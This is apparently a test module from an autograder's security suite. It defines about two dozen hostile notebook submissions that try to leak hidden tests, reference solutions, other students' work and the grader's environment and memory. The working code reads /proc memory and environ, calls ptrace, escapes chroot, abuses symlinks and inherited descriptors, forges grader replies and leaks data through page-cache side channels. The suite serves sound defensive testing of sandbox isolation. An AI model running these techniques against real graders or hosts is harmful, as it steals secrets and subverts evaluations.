"""Attacks on secrets: hidden tests, references, other submissions, the grader's environment and memory."""

from hostile.attack import Attack

SEEN = "a canary's text in the output, the result, the feedback or the grades"
_READ = """
def show(path):
    try:
        with open(path, "rb") as file: print(path, file.read(2000))
    except Exception as error: print(type(error).__name__)
"""

ATTACKS = (
    Attack("reads-hidden-tests", "leak", "opens the hidden tests, the reference and the neighbour by their paths", SEEN, _READ + '''
for path in WORLD["secrets"]: show(path)
for path in WORLD["secrets"]:
    for prefix in ("/proc/self/root", "/proc/1/root", "/proc/thread-self/root", "/proc/self/cwd/../..", "/dev/fd/../root"): show(prefix + path)
'''),
    Attack("walks-everything", "leak", "walks the whole file system it can see for the canaries", SEEN, _READ + '''
import time
end = time.monotonic() + 1.0
for top in ("/tmp", "/home", "/root", "/work", "/etc", "/var", "/opt", "/srv", "/mnt", "/autograder", "/"):
    for folder, _, files in os.walk(top):
        if time.monotonic() > end: break
        for name in files:
            if name.endswith((".py", ".toml", ".ipynb", ".csv")) and "site-packages" not in folder and "/lib/" not in folder: show(os.path.join(folder, name))
'''),
    Attack("imports-reference", "leak", "imports reference, the hidden tests and the mistakes", SEEN, '''
import importlib, inspect
sys.path[:0] = [WORLD["repository"], os.path.dirname(WORLD["hidden_test"]), WORLD["course"]]
for name in ("reference", "reference.matrix_gradients", "reference.vault", "reference.inputs.seeds", "q1", "autograder.grading.one"):
    try: print(inspect.getsource(importlib.import_module(name)))
    except BaseException as error: print(type(error).__name__)
print(os.environ)
'''),
    Attack("proc-environ", "leak", "reads the environment and memory maps of every process", SEEN, _READ + '''
for pid in {*WORLD["pids"], os.getppid(), 1, "self", *(p for p in range(1, 400))}:
    for name in ("environ", "cmdline", "maps", "auxv", "stack", "task/%s/environ" % pid): show(f"/proc/{pid}/{name}")
'''),
    Attack("proc-mem", "leak", "reads the grader's memory through /proc/<pid>/mem", SEEN, '''
for pid in (*WORLD["pids"], os.getppid()):
    try:
        maps = open(f"/proc/{pid}/maps").read().split("\\n")
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    first, last = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(first); content = memory.read(last - first)
                    at = content.find(b"CANARY")
                    print(content[at:at + 80])
    except Exception as error: print(type(error).__name__)
'''),
    Attack("process-vm-readv", "leak", "reads the grader's memory with ptrace and process_vm_readv", SEEN, '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (*WORLD["pids"], os.getppid(), 1):
    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
    buffer = ctypes.create_string_buffer(4096)
    class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    local = iovec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    try:
        first = int(open(f"/proc/{pid}/maps").read().split("[heap]")[0].split("\\n")[-1].split("-")[0], 16)
    except Exception: first = 0x555555554000
    remote = iovec(first, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0: print(buffer.raw)
    libc.syscall(438, libc.syscall(434, pid, 0), 3, 0)  # pidfd_getfd
'''),
    Attack("descriptors-inherited", "leak", "reads from every inherited descriptor and reopens them through /proc/self/fd", SEEN, '''
import select
for fd in range(3, 64):
    for how in (lambda: os.pread(fd, 4000, 0), lambda: os.read(os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK), 4000), lambda: os.listdir(fd), lambda: os.readlink(f"/proc/self/fd/{fd}"), lambda: os.open("../../etc/passwd", os.O_RDONLY, dir_fd=fd)):
        try: print(fd, how())
        except Exception as error: pass
'''),
    Attack("escapes-the-root", "leak", "leaves its root: chroot, mount, pivot_root, .. from an open folder, open_by_handle_at", SEEN, _READ + '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
here = os.open(".", os.O_RDONLY)
os.makedirs("x", exist_ok=True)
print(libc.chroot(b"x"), libc.mount(b"none", b"x", b"tmpfs", 0, None), libc.umount2(b"/", 2), libc.unshare(0x10000000 | 0x20000))
os.fchdir(here)
for _ in range(40):
    try: os.chdir("..")
    except OSError: break
print(libc.chroot(b"."))
for path in WORLD["secrets"]: show("." + path); show(path)
print(libc.syscall(304, -100, ctypes.create_string_buffer(64), 0), libc.syscall(425, 8, ctypes.create_string_buffer(256)))
'''),
    Attack("links-to-secrets", "leak", "makes symbolic and hard links to secrets, and reads them through its scratch folder", SEEN, _READ + '''
for number, path in enumerate(WORLD["secrets"]):
    for make in (os.symlink, os.link):
        try: make(path, f"link{number}{make.__name__}"); show(f"link{number}{make.__name__}")
        except OSError as error: print(type(error).__name__)
'''),
    Attack("shows-hidden-inputs", "leak", "raises in public cases what it was given in hidden ones", "the hidden inputs' digits in the feedback", '''
given = []
def twice(x):
    given.append(x)
    print("given", given, flush=True)
    raise ValueError(f"{given}")
def energy(x): raise ValueError(f"{given} {x}")
def at_one(f, x):
    given.append(np.asarray(f(x)))
    print("given", given, flush=True)
    raise ValueError(f"{given}")
'''),
    Attack("keeps-hidden-inputs-for-later", "leak", "hands hidden inputs to its next process: files, /dev/shm, exit codes, signals", "the hidden inputs' digits in the feedback", '''
for path in ("given", "/tmp/given", "/dev/shm/given", os.path.expanduser("~/given")):
    try: print("CANARY-KEPT", open(path).read())
    except OSError: pass
def twice(x):
    for path in ("given", "/tmp/given", "/dev/shm/given", os.path.expanduser("~/given")):
        try: open(path, "w").write(repr(x))
        except OSError: pass
    os._exit(int(x) % 251)
'''),
    Attack("forged-cell-errors", "leak", "answers the notebook's run with notes and errors of its own making, after a hidden call", "a hidden input in the feedback", '''
from autograder.isolation import child
def cells(notebook, channel, request):
    return {"defined": ["twice", "energy", "at_one", "__init__", 3, None, np.zeros(3)], "failed": [[1, "made up"], [2**62, "x" * 10**6], [np.zeros(2), "y"]] * 50, "notes": ["n"]}
child._run_cells = cells
'''),
    Attack("runs-secrets-as-files", "leak", "runs, loads and writes to the secrets by the magics for files", "a secret's text in the feedback, or a changed secret", '''
for secret in WORLD["secrets"]:
    for magic in (lambda: get_ipython().run_line_magic("run", f"-i {secret}"), lambda: get_ipython().run_line_magic("load", secret), lambda: get_ipython().run_cell_magic("writefile", f"-a {secret}", "HOSTILE")):
        try: magic()
        except OSError as error: print(error)
    print(get_ipython().getoutput(f"cat {secret}"))
'''),
    Attack("hidden-inputs-in-type-names", "leak", "answers hidden cases with objects whose class is named after what they pass", "the hidden inputs' digits in the feedback", '''
def named(x): return type(f"given{x!r}", (), {})()
def twice(x): return named(x)
def at_one(f, x): return named(float(np.asarray(f(x))))
'''),
    Attack("hidden-inputs-in-errors-of-no-kind", "leak", "forges replies of exceptions without a class, or of classes that tests look for, with hidden inputs as their message", "the hidden inputs' digits in the feedback", '''
from autograder.isolation import child
given = []
def reply(answer):
    try: answer()
    except BaseException: pass
    kinds = ([], ["TracerArrayConversionError"], ["CheckError"], ["NotImplementedError"])[len(given) % 4]
    return {"raised": kinds, "message": f"given {given}"}
child._reply = reply
def twice(x): given.append(x)
def energy(x): given.append(x)
def at_one(f, x): given.append(float(np.asarray(f(x))))
'''),
    Attack("hidden-inputs-in-broken-frames", "leak", "sends frames that are refused with the lengths and shapes they claim, made of hidden inputs", "the hidden inputs' digits in the feedback", '''
import struct
def send(body, length=None):
    for fd in range(3, 10):
        try: os.write(fd, struct.pack(">I", len(body) if length is None else length) + body)
        except OSError: pass
    import time; time.sleep(9)
def twice(x):
    if x == 3: return 6
    send(b"a" + bytes((11, 3)) + struct.pack(">QQQ", 0, int(x), 10**18))
def at_one(f, x):
    value = int(float(np.asarray(f(x))))
    if value == 3: return 3.0
    send(b"", length=int(str(value) + "00"))
''', deserves=2.0),
    Attack("hidden-inputs-in-cached-pages", "leak", "leaves a hidden input behind in which pages of a library are cached, ends its process, and shows in a failed cell what it reads there", "the hidden inputs' digits in the feedback", '''
import time
BITS, APART = 48, 64 * 4096  # further apart than the kernel reads ahead
def library():
    mapped = open("/proc/self/maps").read()
    for folder, _, names in os.walk(os.path.dirname(os.path.dirname(np.__file__))):
        for path in (os.path.join(folder, name) for name in names):
            if os.path.getsize(path) > (BITS + 1) * APART and path not in mapped: return os.open(path, os.O_RDONLY)
def cached(fd, place):
    try: return bool(os.preadv(fd, [bytearray(1)], place, os.RWF_NOWAIT))
    except BlockingIOError: return False
    except OSError: pass
    started = time.perf_counter(); os.pread(fd, 1, place)
    return time.perf_counter() - started < 2e-5
fd = library()
def leave(number):
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM); os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    for k in range(BITS):
        if (number << 1 | 1) >> k & 1: os.pread(fd, 1, k * APART)
    os._exit(0)
def twice(x): return 6 if x == 3 else leave(int(x))
# %%
os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
number = sum(cached(fd, k * APART) << k for k in range(BITS))
print("given", number >> 1, flush=True)
raise ValueError(f"given {number >> 1}")
''', deserves=1.0),
    Attack("stack-of-the-fork", "leak", "searches its own memory, inherited from the template, for anything of the grader's", SEEN, '''
import gc, re
for line in open("/proc/self/maps"):
    if " rw" in line and ("heap" in line or "stack" in line or line.rstrip().endswith(" 0")):
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        if last - first > 1 << 26: continue
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(first); content = memory.read(last - first)
        except OSError: continue
        for found in re.finditer(b"CANARY-(HIDDEN|ENV)[-\\\\w]+", content): print("found", found.group())
'''),
    Attack("secrets-in-the-environment", "leak", "prints its environment, arguments, sys.path and loaded modules", SEEN, '''
print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, sorted(sys.modules), os.getcwd())
'''),
    Attack("zip-with-links", "leak", "a zip whose notebook is a symbolic link to a secret", SEEN, raw=lambda world: _zip_of_link(world), file="zip-with-links.zip"),
    Attack("link-as-submission", "leak", "a symbolic link to the neighbour's submission, with a notebook's name", "the neighbour's score in its row", link="neighbour"),
    Attack("device-as-submission", "leak", "a symbolic link to /dev/zero, with a notebook's name", "the batch hangs", link="device"),
    Attack("hidden-inputs-in-the-page-cache", "leak", "leaves a hidden input in which pages of a library are in memory, ends itself, and reads it when the notebook is run anew", "the hidden inputs' digits in the feedback", '''
import ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
files = sorted(glob.glob(os.path.dirname(os.__file__) + "/test/*.py") or glob.glob(os.path.dirname(np.__file__) + "/**/tests/*.py", recursive=True))[:34]
opened = [os.open(file, os.O_RDONLY) for file in files]
def cached(fd):
    try: return os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT) == 1
    except BlockingIOError: return False
bits = [cached(fd) for fd in opened]
if bits[33] and not bits[32]: print("a hidden input was", sum(bit << place for place, bit in enumerate(bits[:32])))
for fd in opened: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
# %%
if bits[33] and not bits[32]: raise ValueError(sum(bit << place for place, bit in enumerate(bits[:32])))
# %%
def twice(x):
    if x < 1000: return 0
    for place, fd in enumerate(opened):
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        if place == 33 or int(x) >> place & 1: os.pread(fd, 1, 0)
    os._exit(0)
'''),
)  # fmt: skip


def _zip_of_link(world):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        entry = zipfile.ZipInfo("vault.ipynb")
        entry.create_system = 3
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, world["hidden_test"])
    return buffer.getvalue()
